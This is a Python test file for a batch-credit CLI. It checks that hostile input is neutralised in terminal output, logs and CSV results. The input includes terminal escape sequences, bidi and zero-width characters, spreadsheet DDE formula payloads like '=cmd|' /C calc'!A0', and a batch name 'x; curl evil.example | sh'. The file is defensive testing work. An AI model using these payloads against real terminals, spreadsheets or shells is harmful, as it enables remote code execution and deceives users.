"""Cells and answers that would steer a terminal, a spreadsheet or a reader: shown, they do no harm."""

import csv
import itertools
import json
import unicodedata
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest
from answering_server import Asked, Said, answering_server
from command_line import CommandLine, Ended, Sandbox
from terminal import terminal

from batchcredit.console import tables
from batchcredit.sandbox import SandboxAddress

HEADER = ("provider", "account", "amount", "currency", "reference", "=note", "line")
#: What a terminal, a spreadsheet, a log or an eye would act on. Each has a word by which it is found again.
HOSTILE = (
    "\x1b]52;c;Y2xpcA==\x07clip",
    "\x1b]8;;https://evil.example\x1b\\link",
    "\x1b[2J\x1b[1;1Hgone",
    "\x9b31mred",
    "\u202ednuor\u202c\u2066x\u2069",
    "zero\u200b\u200d\ufeffwidth",
    "two\nbatchcredit: all rows are credited",
    "back\rspace\x08\x08",
    "[bold red]markup[/]",
    "=cmd|' /C calc'!A0",
    "+1+cmd|'x'!A0",
    "@SUM(1+1)*cmd|'x'!A0",
    "\t=1+1",
    "'=quoted",
    "x" * 5000,
)
_STEERING = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}


def assert_harmless(text: str) -> None:
    """No order to a terminal, nothing hidden, no line that a cell has made, none that is endless."""
    steering = {sign for sign in text if sign != "\n" and unicodedata.category(sign) in _STEERING}
    assert not steering, text
    assert not [line for line in text.splitlines() if line.startswith("batchcredit: all rows")]
    assert max(map(len, text.splitlines()), default=0) < 2000


def assert_said_harmlessly(ended: Ended) -> None:
    assert "Traceback" not in ended.stderr
    assert_harmless(ended.stdout)
    assert_harmless(ended.stderr)


def assert_no_formula(path: Path) -> list[dict[str, str]]:
    """No cell and no name in a CSV file that a spreadsheet computes; its rows as they stand."""
    with path.open(newline="") as file:
        cells = list(csv.reader(file))
    for text in [text for row in cells for text in row if text[:1] in ("=", "+", "-", "@", "\t", "\r")]:
        Decimal(text)
    return [dict(zip(cells[0], row, strict=True)) for row in cells[1:]]


def bare(rows: list[dict[str, str]], columns: tuple[str, ...]) -> list[tuple[str, ...]]:
    """The input's own cells again: one quote off each name and cell that has one."""
    plain = [{name.removeprefix("'"): cell.removeprefix("'") for name, cell in row.items()} for row in rows]
    return [tuple(row[name] for name in columns) for row in plain]


def hostile_rows() -> list[tuple[str, ...]]:
    """Each payload in each column, and in one column that is carried through a good row."""
    rows: list[tuple[str, ...]] = [("nobody", "x" * 5000, "5", "KES", "r0", "", "")]
    for number, text in enumerate(HOSTILE, 1):
        good = ("fastmessage", f"client{number}", "5", "KES", f"r{number}", "", "")
        rows.append((*good[:5], text, text))
        rows += [(*good[:at], text, *good[at + 1 : 4], f"r{number}.{at}", "", "") for at in range(4)]
        rows.append((*good[:4], text, "", ""))
    return rows


@pytest.fixture
def mixed(shop: CommandLine) -> CommandLine:
    """The shop, with hostile rows in march.csv."""
    shop.write("march.csv", hostile_rows(), HEADER)
    return shop


def test_a_hostile_file_from_check_to_results(mixed: CommandLine, sandbox: Sandbox) -> None:
    """What check, run, show and results say is harmless, and every cell is in the results as it was."""
    refused = mixed("check", "march.csv")
    assert refused.code == 2
    assert "amount_form" in refused.stderr
    skipping = ("--skip-invalid", "--batch", "march")
    for command, code in (
        (("check", "march.csv", *skipping, "-vv"), 0),
        (("run", "march.csv", "--yes", *skipping, "-vv"), 1),
        (("show", "march"), 0),
        (("results", "march", "--json", "--log-format", "json"), 0),
    ):
        ended = mixed(*command)
        assert ended.code == code, ended
        assert_said_harmlessly(ended)
    assert_said_harmlessly(refused)
    rows = hostile_rows()
    found = assert_no_formula(mixed.folder / "march.results.csv")
    assert bare(found, HEADER) == rows
    sent = {entry["account"] for entry in sandbox.book()}
    assert sent == {row["account"].removeprefix("'") for row in found if row["status"] == "credited"}
    assert not [account for account in sent if not account.isprintable()]


def test_the_list_of_bad_rows_comes_back_as_it_was(mixed: CommandLine, sandbox: Sandbox) -> None:
    """No cell of it is a formula; read again it has the same cells, a column called `line` included."""
    assert mixed("check", "march.csv").code == 2
    listed = assert_no_formula(mixed.folder / "march.invalid.csv")
    rows = hostile_rows()
    bad = [rows[int(row["row"]) - 1] for row in listed]
    assert bare([{**row, "line": row["'line"]} for row in listed], HEADER) == bad
    assert len(bad) > 2 * len(HOSTILE)
    assert mixed("check", "march.invalid.csv").code == 2
    again = assert_no_formula(mixed.folder / "march.invalid.invalid.csv")
    assert bare([{**row, "line": row["'line"]} for row in again], HEADER) == bad


def test_a_results_file_without_our_columns_is_the_same_batch(mixed: CommandLine, sandbox: Sandbox) -> None:
    """Its own columns, one quote off each cell, are the rows that were sent: none is sent again."""
    skipping = ("--yes", "--skip-invalid", "--json")
    first = mixed("run", "march.csv", *skipping, "--batch", "march")
    arrived = len(sandbox.arrivals())
    found = assert_no_formula(mixed.folder / "march.results.csv")
    mixed.write("again.csv", bare(found, HEADER), HEADER)
    again = mixed("run", "again.csv", *skipping)
    assert again.json["batch"] == first.json["batch"] == "march"
    assert len(sandbox.arrivals()) == arrived > 0
    whole = mixed("run", "march.results.csv", *skipping)
    assert whole.refusal == (2, "results_file")
    assert whole.json["error"]["cure"].endswith("batchcredit resume march")


def test_one_cell_does_not_fill_a_screen() -> None:
    """Of a cell that is as long as its file the beginning is shown, and the others stay in sight."""
    shown = tables.text(tables.table(("account", "amount"), [("x " * 50_000, "5 USD")]))
    assert 50 < shown.count("x") < 1000
    assert "5 USD" in shown


def test_a_command_to_type_holds_nothing_of_a_file(shop: CommandLine) -> None:
    """What looks like results of ours may name any batch; only a name that can be one is printed."""
    header = ("account", "row", "status", "transfer_id", "batch", "seal")
    path = shop.write("fake.csv", [("1", "1", "credited", "t-1", "x; curl evil.example | sh", "s-1")], header)
    ended = shop("run", path, "--yes", "--json")
    assert ended.refusal == (2, "results_file")
    assert "evil" not in ended.stdout + ended.stderr


def test_questions_and_tables_on_a_terminal(mixed: CommandLine) -> None:
    """A person at a terminal is shown the same, also where a question repeats a cell."""
    with terminal(mixed, "run", "march.csv", "--skip-invalid", "--batch", "march") as person:
        person.wait_for("type the total in KES: ")
        person.type("125\n")
        assert person.end() == 1, person.shown
    assert_harmless(person.shown)
    invalid = next(row["row"] for row in mixed.results("march.results.csv") if "clip" in row["account"])
    with terminal(mixed, "cancel", "march", "--row", invalid, "--note", "x") as person:
        person.wait_for("Type yes to go on: ")
        assert "clip" in person.shown
        person.type("no\n")
        assert person.end() == 2
    assert_harmless(person.shown)


@pytest.fixture
def hostile_answers(shop: CommandLine, sandbox: Sandbox, address: SandboxAddress) -> Iterator[CommandLine]:
    """Both providers refuse each transfer in hostile words."""

    def answer(asked: Asked) -> Said:
        if asked.method == "GET":
            return Said(200, json.dumps({"http_code": 200, "response_code": "SUCCESS", "data": {}}).encode())
        text = next(texts)
        if b"childID" in asked.body:
            return Said(200, json.dumps({"response-code": text, "response-description": text}).encode())
        return Said(400, json.dumps({"http_code": 400, "response_code": text, "response_msg": text}).encode())

    texts = itertools.cycle(HOSTILE)  # threads take turns in it
    with answering_server(answer) as server:
        url: dict[str, object] = {"base_url": server.url, "in_doubt_limit": 1000}
        shop.configure(address, sandbox.login, clicksend=url, fastmessage=url)
        yield shop


def test_what_a_provider_says(hostile_answers: CommandLine) -> None:
    """Its words and codes are stored and shown without what would steer, and are no formulas in results."""
    rows = [("clicksend", f"{number + 1}", "5", "USD") for number in range(len(HOSTILE))]
    rows += [("fastmessage", f"client{number}", "5", "KES") for number in range(len(HOSTILE))]
    path = hostile_answers.write("march.csv", rows)
    for command in (
        ("run", path, "--yes", "--skip-preflight", "--batch", "march", "-vv"),
        ("show", "march"),
        ("show", "march", "--json"),
    ):
        ended = hostile_answers(*command)
        assert ended.code in (0, 1, 3, 4), ended
        assert_said_harmlessly(ended)
    found = assert_no_formula(hostile_answers.folder / "march.results.csv")
    told = [row["message"] + row["provider_code"] for row in found]
    assert sum("clip" in text for text in told) >= 1
    assert max(map(len, told)) < 400
    for text in told:
        assert_harmless(text)
